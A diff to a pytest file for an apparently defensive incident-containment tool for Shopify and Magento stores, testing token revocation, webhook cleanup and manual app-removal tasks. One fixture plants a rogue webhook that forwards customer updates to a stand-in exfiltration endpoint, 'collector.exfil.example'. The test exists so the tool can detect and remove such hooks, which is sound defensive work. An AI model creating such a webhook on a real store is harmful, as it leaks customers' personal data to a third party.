@@ -11,7 +11,10 @@ from typing import Any
 import pytest
 
 from bulkhead.local.runtime import LocalFabric
-from bulkhead.sandbox import Faults
+from bulkhead.sandbox import Faults, SandboxStore
+from bulkhead.sandbox.fixtures import BULKHEAD_SUBSCRIPTIONS, COMPROMISED_APP, HEADLESS_APP
+from bulkhead.sandbox.shopify.apps_model import BULKHEAD_APP
+from bulkhead.sandbox.shopify.operations.webhooks import subscription
 from functions.common import clients
 from functions.ledger.adapters.dynamodb import DynamoLedgerStore
 
@@ -73,17 +76,35 @@ SHOPIFY_CASES = [
 ]
 
 
+def rogue_subscription(sandbox: SandboxStore) -> str:
+    """A subscription made with Bulkhead's own credentials by someone who stole them: Bulkhead's to delete."""
+    gid = "gid://shopify/WebhookSubscription/5003"
+    with sandbox.state.lock:
+        sandbox.state.table("webhooks")[gid] = subscription(
+            gid, "CUSTOMERS_UPDATE", {"uri": "https://collector.exfil.example/c"}, BULKHEAD_APP
+        )
+    return gid
+
+
+def owners(sandbox: SandboxStore, collection: str) -> dict[str, str]:
+    return {gid: r["_app"] for gid, r in sandbox.table(collection).items()}
+
+
 @pytest.mark.parametrize(("kind", "target", "subjects", "collection", "volatile"), SHOPIFY_CASES)
 def test_a_shopify_action_applies_verifies_records_and_restores_the_pre_state(
     fabric: LocalFabric, kind: str, target: str, subjects: tuple[str, ...], collection: str, volatile: tuple[str, ...]
 ) -> None:
     sandbox = fabric.sandboxes["acme-eu"]
+    rogue_subscription(sandbox)
     before = sandbox.snapshot()
 
     outcome = apply(fabric, kind, "acme-eu", target, subjects)
 
     assert outcome["status"] == "applied" and outcome["changed"] > 0
     assert sandbox.snapshot()[collection] != before[collection]
+    # Only Bulkhead's own objects changed: other apps' and the channel's are out of its reach.
+    foreign = {g: r for g, r in before[collection].items() if r.get("_app") not in (None, BULKHEAD_APP)}
+    assert {g: sandbox.table(collection).get(g) for g in foreign} == foreign
     entries = ledger(fabric)
     applied = [d for t, d in entries if t == "action.applied"]
     assert [t for t, _ in entries] == ["action.planned", "action.applied", "action.verified"]
@@ -126,8 +147,11 @@ def test_magento_customer_tokens_are_revoked_and_restore_says_they_cannot_come_b
     outcome = apply(
         fabric, "magento.revoke_customer_tokens", "acme-us", "customers", ("customer:7001", "customer:7002")
     )
-    assert outcome["changed"] == 2
-    assert [sandbox.table("customers")[c]["active_tokens"] for c in ("7001", "7002", "7003")] == [0, 0, 2]
+    assert outcome["status"] == "applied" and outcome["changed"] == 2
+    customers = sandbox.table("customers")
+    # 7001's tokens are counted and gone; 7002's are JWTs (uncountable), revoked all the same by time
+    assert [customers[c]["active_tokens"] for c in ("7001", "7002", "7003")] == [0, None, 2]
+    assert customers["7002"]["tokens_revoked_at"] and "tokens_revoked_at" not in customers["7003"]
     assert revert(fabric, "magento.revoke_customer_tokens")["status"] == "not_reversible"
 
 
@@ -153,7 +177,7 @@ def test_shopify_throttling_is_waited_out_from_throttle_status(fabric: LocalFabr
 
     assert outcome["status"] == "applied"
     assert any(c.fault == "throttle" for c in sandbox.calls)
-    assert sandbox.table("storefront_tokens") == {}
+    assert sorted(owners(sandbox, "storefront_tokens").values()) == [HEADLESS_APP, HEADLESS_APP]
 
 
 def test_dry_run_changes_nothing_and_calls_no_api(fabric: LocalFabric) -> None:
@@ -165,13 +189,66 @@ def test_dry_run_changes_nothing_and_calls_no_api(fabric: LocalFabric) -> None:
     assert [t for t, _ in ledger(fabric)] == ["action.planned"]
 
 
-def test_app_access_becomes_a_manual_task_verified_when_done(fabric: LocalFabric) -> None:
-    from bulkhead.sandbox.shopify.operations.apps import uninstall_app
+def test_removing_untrusted_webhooks_never_touches_bulkheads_delivery_paths(
+    fabric: LocalFabric,
+) -> None:
+    # Given a rogue subscription made with Bulkhead's credentials, and `untrusted` as the target
+    sandbox = fabric.sandboxes["acme-eu"]
+    rogue = rogue_subscription(sandbox)
+    own = {g for g, r in sandbox.table("webhooks").items() if r["uri"] in BULKHEAD_SUBSCRIPTIONS.values()}
 
+    outcome = apply(fabric, "shopify.remove_webhook_subscription", "acme-eu", "untrusted")
+
+    # Then only the rogue one is gone: the delivery paths (HTTPS and the EventBridge audit feed) stay,
+    # and the compromised app's own subscription is untouched (only the merchant can remove it)
+    hooks = sandbox.table("webhooks")
+    assert outcome["status"] == "applied" and outcome["changed"] == 1
+    assert rogue not in hooks and own <= set(hooks) and len(own) == len(BULKHEAD_SUBSCRIPTIONS)
+    assert any(r["_app"] == COMPROMISED_APP for r in hooks.values())
+
+
+def test_app_access_is_a_guided_merchant_task_recorded_on_the_operators_word(fabric: LocalFabric) -> None:
+    from bulkhead.sandbox.shopify.operations.apps import uninstall_app
+    from functions.common.wiring import utc_now
+    from functions.containment import wiring
+    from functions.containment.domain import complete_manual_task
+    from functions.ledger.wiring import ledger as ledger_port
+
+    # When app access is to be revoked: Bulkhead cannot list or remove another app
     outcome = apply(fabric, "shopify.revoke_app_access", "acme-eu", "app:9912345")
     assert outcome["status"] == "manual_task"
-    assert "Customer Insights Export" in outcome["detail"] and "Uninstall" in outcome["detail"]
+    assert "admin.shopify.com/store/acme-wealth-eu/settings/apps" in outcome["detail"]
+    assert "Uninstall" in outcome["detail"] and "audit_events/admin_api_activity" in outcome["detail"]
+    assert not any(c.operation == "appInstallations" for c in fabric.sandboxes["acme-eu"].calls)
+
+    # Then it is never "done at once": applying again while the app is installed is still a task
     uninstall_app(fabric.sandboxes["acme-eu"].state, "9912345")
-    assert apply(fabric, "shopify.revoke_app_access", "acme-eu", "app:9912345")["status"] == "applied"
-    types = [t for t, _ in ledger(fabric)]
-    assert types == ["action.planned", "action.manual_task", "action.applied", "action.verified"]
+    assert apply(fabric, "shopify.revoke_app_access", "acme-eu", "app:9912345")["status"] == "manual_task"
+
+    # When the operator reports it done, it is recorded as their verification
+    done = complete_manual_task(
+        INCIDENT,
+        "act-01-test",
+        "on-call",
+        wiring.catalogue_for("acme-eu"),
+        ledger_port(),
+        wiring.journal(),
+        wiring.vault(),
+        utc_now(),
+    )
+    assert done.status.value == "applied"
+    applied = [d for t, d in ledger(fabric) if t == "action.applied"]
+    assert applied[0]["by"] == "operator:on-call"
+
+
+def test_a_recalled_integration_is_already_off_and_left_as_it_is(fabric: LocalFabric) -> None:
+    # Given an integration the merchant recalled (core status 2, Magento\Integration\Model\Integration)
+    sandbox = fabric.sandboxes["acme-us"]
+    with sandbox.state.lock:
+        sandbox.state.table("integrations")["14"]["status"] = 2
+
+    outcome = apply(fabric, "magento.disable_integration", "acme-us", "14")
+
+    # Then containment verifies it off without writing over the recall
+    assert outcome["status"] == "applied" and outcome["changed"] == 0
+    assert sandbox.table("integrations")["14"]["status"] == 2
